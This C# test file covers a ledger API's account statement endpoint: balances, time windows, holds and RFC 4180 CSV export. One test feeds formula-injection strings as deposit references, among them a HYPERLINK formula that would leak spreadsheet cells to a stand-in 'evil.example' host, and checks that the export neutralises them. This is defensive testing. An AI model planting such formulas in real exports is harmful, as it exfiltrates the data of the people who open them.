using System.Globalization;
using System.Net;
using System.Net.Http.Headers;
using System.Text;
using System.Text.Json;
using Ledger.Api.Tests.Http;
using Ledger.Api.Tests.Infrastructure;
using Ledger.Testing;
using Marten;
using Microsoft.Extensions.DependencyInjection;

namespace Ledger.Api.Tests.Audit;

/// <summary><c>GET /accounts/{id}/statement</c>: opening balance + entries = closing balance, as JSON and as RFC 4180 CSV.</summary>
[Collection(ApiFixtureGroup.Name)]
public sealed class StatementTests(LedgerApiFactory factory)
{
    public const string CsvHeader =
        "type,version,sequence,eventId,occurredAt,amount,balanceAfter,currency,transferId,counterpartyAccountId,reference,correlationId,hash," +
        "actorSubject,actorRole,heldAfter,availableAfter";

    private static readonly TimeSpan Microsecond = AuditTimes.Microsecond;

    private readonly Teller _teller = new(factory.CreateClient());

    private readonly Auditor _auditor = new(factory.CreateClient());

    private readonly LedgerWriter _writer = new(factory.Services.GetRequiredService<IDocumentStore>());

    /// <summary>Created, +100.00, −20.00, +5.25, −1.25, +40.00: balances 0, 100, 80, 85.25, 84, 124.</summary>
    private async Task<(Guid AccountId, List<JsonElement> History)> ArrangeAsync()
    {
        var accountId = await _teller.OpenAccountAsync();
        await _teller.DepositAsync(accountId, "100.00");
        await _teller.WithdrawAsync(accountId, "20.00");
        await _teller.DepositAsync(accountId, "5.25");
        await _teller.WithdrawAsync(accountId, "1.25");
        await _teller.DepositAsync(accountId, "40.00");
        return (accountId, await _auditor.HistoryAsync(accountId));
    }

    private static string Window(DateTimeOffset? from, DateTimeOffset? to) =>
        string.Join('&', new[] { from is { } f ? $"from={AuditTimes.Query(f)}" : null, to is { } t ? $"to={AuditTimes.Query(t)}" : null }
            .Where(part => part is not null));

    private Task<JsonElement> StatementAsync(Guid accountId, DateTimeOffset? from = null, DateTimeOffset? to = null) =>
        _auditor.GetOkAsync($"/api/v1/accounts/{accountId}/statement?{Window(from, to)}");

    private static List<JsonElement> Entries(JsonElement statement) => statement.GetProperty("entries").EnumerateArray().ToList();

    private static decimal Opening(JsonElement statement) => statement.GetProperty("openingBalance").GetDecimal();

    private static decimal Closing(JsonElement statement) => statement.GetProperty("closingBalance").GetDecimal();

    private static void ShouldAddUp(JsonElement statement) =>
        (Opening(statement) + Entries(statement).Sum(entry => entry.GetProperty("amount").GetDecimal())).Should().Be(Closing(statement),
            "opening balance plus the entries' amounts is the closing balance; got {0}", statement);

    [Fact]
    public async Task WindowInTheMiddle_OpeningPlusEntriesEqualsClosing()
    {
        var (accountId, history) = await ArrangeAsync();

        var statement = await StatementAsync(accountId, history[2].OccurredAt(), history[4].OccurredAt());

        Entries(statement).Select(entry => entry.Version()).Should().Equal(3, 4, 5);
        Opening(statement).Should().Be(100m, "the balance after version 2, the last event before 'from'");
        Closing(statement).Should().Be(84m);
        ShouldAddUp(statement);
        statement.GetProperty("from").GetString().Should().Be(history[2].GetProperty("occurredAt").GetString());
        statement.GetProperty("to").GetString().Should().Be(history[4].GetProperty("occurredAt").GetString());
        statement.GetProperty("currency").GetString().Should().Be("EUR");
        statement.GetProperty("accountId").GetGuid().Should().Be(accountId);
    }

    [Fact]
    public async Task NoWindow_OpensAtZeroAndClosesAtTheCurrentBalance()
    {
        var (accountId, history) = await ArrangeAsync();

        var statement = await StatementAsync(accountId);

        Opening(statement).Should().Be(0m);
        Closing(statement).Should().Be(124m).And.Be(await _teller.BalanceAsync(accountId));
        Entries(statement).Select(entry => entry.GetRawText()).Should().Equal(history.Select(entry => entry.GetRawText()));
        ShouldAddUp(statement);
    }

    [Fact]
    public async Task Opening_IsTheBalanceAfterEveryEventBeforeFrom()
    {
        var (accountId, history) = await ArrangeAsync();
        var third = history[2].OccurredAt();

        var cases = new[]
        {
            (From: history[1].OccurredAt() + Microsecond, Opening: 100m, FirstVersion: 3L),
            (From: third - Microsecond, Opening: 100m, FirstVersion: 3L),
            (From: third, Opening: 100m, FirstVersion: 3L),
            (From: third + Microsecond, Opening: 80m, FirstVersion: 4L),
            (From: history[0].OccurredAt(), Opening: 0m, FirstVersion: 1L),
            (From: history[0].OccurredAt() - Microsecond, Opening: 0m, FirstVersion: 1L),
        };
        foreach (var (from, opening, firstVersion) in cases)
        {
            var statement = await StatementAsync(accountId, from);

            Opening(statement).Should().Be(opening, "from {0}", AuditTimes.Format(from));
            Entries(statement)[0].Version().Should().Be(firstVersion);
            Closing(statement).Should().Be(124m);
            ShouldAddUp(statement);
        }
    }

    [Fact]
    public async Task WindowAfterTheLastEvent_HasNoEntriesAndClosesAtTheOpening()
    {
        var (accountId, history) = await ArrangeAsync();

        var statement = await StatementAsync(accountId, history[^1].OccurredAt() + Microsecond);

        Entries(statement).Should().BeEmpty();
        Opening(statement).Should().Be(124m);
        Closing(statement).Should().Be(124m);
    }

    /// <summary>An event at T is before a <c>from</c> of T + 100 ns: in the opening balance, not among the entries.</summary>
    [Fact]
    public async Task FromOneTickAfterAnEvent_OpeningPlusEntriesEqualsClosing()
    {
        var (accountId, history) = await ArrangeAsync();

        var statement = await StatementAsync(accountId, history[2].OccurredAt().AddTicks(1));

        ShouldAddUp(statement);
        Opening(statement).Should().Be(80m, "version 3 occurred before 'from'");
        Entries(statement).Select(entry => entry.Version()).Should().Equal(4, 5, 6);
    }

    [Fact]
    public async Task Csv_IsRfc4180WithOpeningAndClosingRowsAndMatchesTheJson()
    {
        const string reference = "Invoice \"A\", part 2";
        var accountId = await _teller.OpenAccountAsync();
        var other = await _teller.OpenAccountAsync();
        await _teller.DepositAsync(accountId, "200.00", reference, correlationId: "audit-csv-1");
        await _teller.TransferAsync(accountId, other, "12.34", "Line one, line two");
        await _teller.WithdrawAsync(accountId, "0.66");
        var history = await _auditor.HistoryAsync(accountId);
        var query = Window(history[1].OccurredAt(), history[^1].OccurredAt());

        var json = await _auditor.GetOkAsync($"/api/v1/accounts/{accountId}/statement?{query}");
        using var request = new HttpRequestMessage(HttpMethod.Get, new Uri($"/api/v1/accounts/{accountId}/statement?{query}", UriKind.Relative));
        request.Headers.Accept.Add(new MediaTypeWithQualityHeaderValue("text/csv"));
        using var response = await _auditor.Http.SendAsync(request);
        var csv = await response.Content.ReadAsStringAsync();

        response.StatusCode.Should().Be(HttpStatusCode.OK, csv);
        response.Content.Headers.ContentType!.MediaType.Should().Be("text/csv");
        csv.Should().EndWith("\r\n");
        csv.Replace("\r\n", "", StringComparison.Ordinal).Should().NotContain("\n", "every line ends with CRLF").And.NotContain("\r");
        csv.Should().StartWith(CsvHeader + "\r\n");
        csv.Should().Contain(",\"Invoice \"\"A\"\", part 2\",", "a field with a comma or quote is quoted and its quotes doubled");

        var rows = Rfc4180.Parse(csv);
        rows[0].Should().Equal(CsvHeader.Split(','));
        rows.Should().OnlyContain(row => row.Count == 17);
        rows[1].Should().Equal("OpeningBalance", "", "", "", Format(json.GetProperty("from")), "", "0.00", "EUR", "", "", "", "", "", "", "", "0.00", "0.00");
        rows[^1].Should().Equal("ClosingBalance", "", "", "", Format(json.GetProperty("to")), "", "187.00", "EUR", "", "", "", "", "", "", "", "0.00",
            "187.00");
        decimal.Parse(rows[1][6], CultureInfo.InvariantCulture).Should().Be(Opening(json));
        decimal.Parse(rows[^1][6], CultureInfo.InvariantCulture).Should().Be(Closing(json));
        var entries = Entries(json);
        rows.Should().HaveCount(entries.Count + 3);
        for (var i = 0; i < entries.Count; i++)
        {
            rows[i + 2].Should().Equal(ExpectedRow(entries[i]), "row {0} is entry {1}", i + 2, entries[i]);
        }

        rows[2][10].Should().Be(reference);
        rows[2][11].Should().Be("audit-csv-1");
        rows[3][10].Should().Be("Line one, line two");
        rows[3][9].Should().Be(other.ToString());
    }

    private static (decimal Balance, decimal Held, decimal Available) Opened(JsonElement statement) =>
        (Opening(statement), statement.GetProperty("openingHeld").GetDecimal(), statement.GetProperty("openingAvailable").GetDecimal());

    private static (decimal Balance, decimal Held, decimal Available) Closed(JsonElement statement) =>
        (Closing(statement), statement.GetProperty("closingHeld").GetDecimal(), statement.GetProperty("closingAvailable").GetDecimal());

    /// <summary>
    /// +100.00, a hold of 30.00 captured for 10.00 out of the ledger, a hold of 5.00 left open: the balances add up with the
    /// entries' amounts (a hold moves none), and held and available stand beside them at either end, in JSON and in CSV.
    /// </summary>
    [Fact]
    public async Task WindowAcrossHolds_BalancesAddUp_AndHeldAndAvailableStandBesideThem()
    {
        var accountId = await _teller.OpenFundedAccountAsync("100.00");
        await _writer.CaptureAsync(await _writer.PlaceHoldAsync(accountId, 30_00), 10_00);
        await _writer.PlaceHoldAsync(accountId, 5_00);
        var history = await _auditor.HistoryAsync(accountId);

        var whole = await StatementAsync(accountId, history[2].OccurredAt());
        var afterTheHold = await StatementAsync(accountId, history[3].OccurredAt(), history[3].OccurredAt());
        var beforeAnything = await StatementAsync(accountId);

        Entries(whole).Select(entry => entry.GetProperty("type").GetString()).Should().Equal("HoldPlaced", "HoldCaptured", "HoldPlaced");
        ShouldAddUp(whole);
        Opened(whole).Should().Be((100m, 0m, 100m));
        Closed(whole).Should().Be((90m, 5m, 85m));
        Opened(afterTheHold).Should().Be((100m, 30m, 70m), "the hold was placed before 'from'");
        Closed(afterTheHold).Should().Be((90m, 0m, 90m));
        ShouldAddUp(afterTheHold);
        Opened(beforeAnything).Should().Be((0m, 0m, 0m));
        Closed(beforeAnything).Should().Be(Closed(whole));

        using var request = new HttpRequestMessage(HttpMethod.Get, new Uri(
            $"/api/v1/accounts/{accountId}/statement?{Window(history[2].OccurredAt(), null)}", UriKind.Relative));
        request.Headers.Accept.Add(new MediaTypeWithQualityHeaderValue("text/csv"));
        using var response = await _auditor.Http.SendAsync(request);
        var rows = Rfc4180.Parse(await response.Content.ReadAsStringAsync());
        rows.Select(row => (row[0], row[6], row[15], row[16])).Should().Equal(
            ("type", "balanceAfter", "heldAfter", "availableAfter"), ("OpeningBalance", "100.00", "0.00", "100.00"),
            ("HoldPlaced", "100.00", "30.00", "70.00"), ("HoldCaptured", "90.00", "0.00", "90.00"), ("HoldPlaced", "90.00", "5.00", "85.00"),
            ("ClosingBalance", "90.00", "5.00", "85.00"));
    }

    [Fact]
    public async Task Csv_NeutralisesFormulaLikeTextAndKeepsNegativeAmountsAsNumbers()
    {
        string[] references = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")", "+1", "-2+3", "@SUM(A1)"];
        var accountId = await _teller.OpenAccountAsync();
        foreach (var reference in references)
        {
            await _teller.DepositAsync(accountId, "10.00", reference, correlationId: "=1+1");
        }

        await _teller.WithdrawAsync(accountId, "3.50", "-withdrawal");
        // Leading white space is trimmed from a reference and a tab within one is refused, so no tab reaches the CSV.
        await _teller.DepositAsync(accountId, "1.00", "\tx");
        using var tab = await _teller.DepositRawAsync(accountId, Teller.Json(new { amount = "1.00", reference = "a\tx" }));
        await Teller.ExpectFieldProblem(tab, ProblemTypes.Validation, "reference");

        using var request = new HttpRequestMessage(HttpMethod.Get, new Uri($"/api/v1/accounts/{accountId}/statement", UriKind.Relative));
        request.Headers.Accept.Add(new MediaTypeWithQualityHeaderValue("text/csv"));
        using var response = await _auditor.Http.SendAsync(request);
        var csv = await response.Content.ReadAsStringAsync();

        response.StatusCode.Should().Be(HttpStatusCode.OK, csv);
        var rows = Rfc4180.Parse(csv);
        var deposits = rows.Where(row => row[0] == "MoneyDeposited").ToList();
        deposits.Select(row => row[10]).Should().Equal([.. references.Select(reference => "'" + reference), "x"],
            "each formula-like reference gets a leading quote");
        deposits.Take(references.Length).Should().OnlyContain(row => row[11] == "'=1+1", "a client-chosen correlation id is text too");
        foreach (var reference in references)
        {
            csv.Should().Contain($",\"'{reference.Replace("\"", "\"\"", StringComparison.Ordinal)}\",", "a neutralised field is also quoted");
        }

        var withdrawal = rows.Single(row => row[0] == "MoneyWithdrawn");
        withdrawal[10].Should().Be("'-withdrawal");
        csv.Should().Contain(",-3.50,36.50,EUR,", "amounts stay plain numbers, negative ones too");
        decimal.Parse(withdrawal[5], NumberStyles.Number, CultureInfo.InvariantCulture).Should().Be(-3.50m);
        decimal.Parse(withdrawal[6], NumberStyles.Number, CultureInfo.InvariantCulture).Should().Be(36.50m);
    }

    [Theory]
    [InlineData("\tx", "\"'\tx\"")]
    [InlineData("\rx", "\"'\rx\"")]
    [InlineData("=1", "\"'=1\"")]
    [InlineData("a=1", "a=1")]
    [InlineData("", "")]
    [InlineData("Invoice, 42", "\"Invoice, 42\"")]
    public void CsvText_NeutralisesWhatASpreadsheetWouldRun(string text, string field)
    {
        Ledger.Api.Audit.GetStatementEndpoint.Text(text).Should().Be(field);
    }

    private static string Format(JsonElement value) => value.ValueKind == JsonValueKind.String ? value.GetString()! : "";

    /// <summary>The CSV row an entry of the JSON statement must become; amounts compare as decimals, written as in JSON.</summary>
    private static string[] ExpectedRow(JsonElement entry)
    {
        string Optional(string name) => entry.TryGetProperty(name, out var value) ? value.GetString()! : "";
        return
        [
            entry.GetProperty("type").GetString()!, entry.Version().ToString(CultureInfo.InvariantCulture),
            entry.Sequence().ToString(CultureInfo.InvariantCulture), entry.GetProperty("eventId").GetString()!,
            entry.GetProperty("occurredAt").GetString()!, entry.GetProperty("amount").GetRawText(), entry.GetProperty("balanceAfter").GetRawText(),
            entry.GetProperty("currency").GetString()!, Optional("transferId"), Optional("counterpartyAccountId"), Optional("reference"),
            Optional("correlationId"), entry.GetProperty("hash").GetString()!,
            entry.TryGetProperty("actor", out var actor) ? actor.GetProperty("subject").GetString()! : "",
            entry.TryGetProperty("actor", out actor) ? actor.GetProperty("role").GetString()! : "",
            entry.GetProperty("heldAfter").GetRawText(), entry.GetProperty("availableAfter").GetRawText(),
        ];
    }

    [Theory]
    [InlineData("from=2026-03-02T14:03:01Z&to=2026-03-02T14:03:00Z", "from")]
    [InlineData("from=yesterday", "from")]
    [InlineData("to=2026-03-02 14:03", "to")]
    public async Task InvalidWindow_IsRejected(string query, string field)
    {
        var accountId = await _teller.OpenAccountAsync();

        await _auditor.ExpectValidationErrorAsync($"/api/v1/accounts/{accountId}/statement?{query}", field);
    }

    [Fact]
    public async Task UnknownAccount_IsAccountNotFound()
    {
        var problem = await _auditor.ExpectProblemAsync($"/api/v1/accounts/{Guid.NewGuid()}/statement", HttpStatusCode.NotFound, ProblemTypes.AccountNotFound);

        problem.ShouldBeCompleteProblem(404);
    }

    /// <summary>A strict RFC 4180 reader: CRLF-terminated records, fields quoted when they hold a comma, quote or line break.</summary>
    private static class Rfc4180
    {
        public static List<List<string>> Parse(string text)
        {
            var records = new List<List<string>>();
            var record = new List<string>();
            var field = new StringBuilder();
            var i = 0;
            while (i < text.Length)
            {
                if (text[i] == '"' && field.Length == 0)
                {
                    i = ReadQuoted(text, i + 1, field);
                }
                else if (text[i] == ',')
                {
                    record.Add(field.ToString());
                    field.Clear();
                    i++;
                }
                else if (text[i] == '\r' && i + 1 < text.Length && text[i + 1] == '\n')
                {
                    record.Add(field.ToString());
                    field.Clear();
                    records.Add(record);
                    record = [];
                    i += 2;
                }
                else
                {
                    text[i].Should().NotBe('"', "a quote inside an unquoted field at offset {0} is not RFC 4180", i);
                    text[i].Should().NotBe('\n', "a bare LF at offset {0} is not a record end", i);
                    field.Append(text[i++]);
                }
            }

            record.Should().BeEmpty("the last record ends with CRLF");
            field.Length.Should().Be(0);
            return records;
        }

        /// <summary>Reads a quoted field's content from <paramref name="i"/>; returns the offset after its closing quote.</summary>
        private static int ReadQuoted(string text, int i, StringBuilder field)
        {
            while (true)
            {
                i.Should().BeLessThan(text.Length, "a quoted field must be closed");
                if (text[i] != '"')
                {
                    field.Append(text[i++]);
                }
                else if (i + 1 < text.Length && text[i + 1] == '"')
                {
                    field.Append('"');
                    i += 2;
                }
                else
                {
                    var after = i + 1;
                    (after == text.Length || text[after] == ',' || text[after] == '\r').Should().BeTrue(
                        "a closing quote is followed by a comma or the record end (offset {0})", after);
                    return after;
                }
            }
        }
    }
}
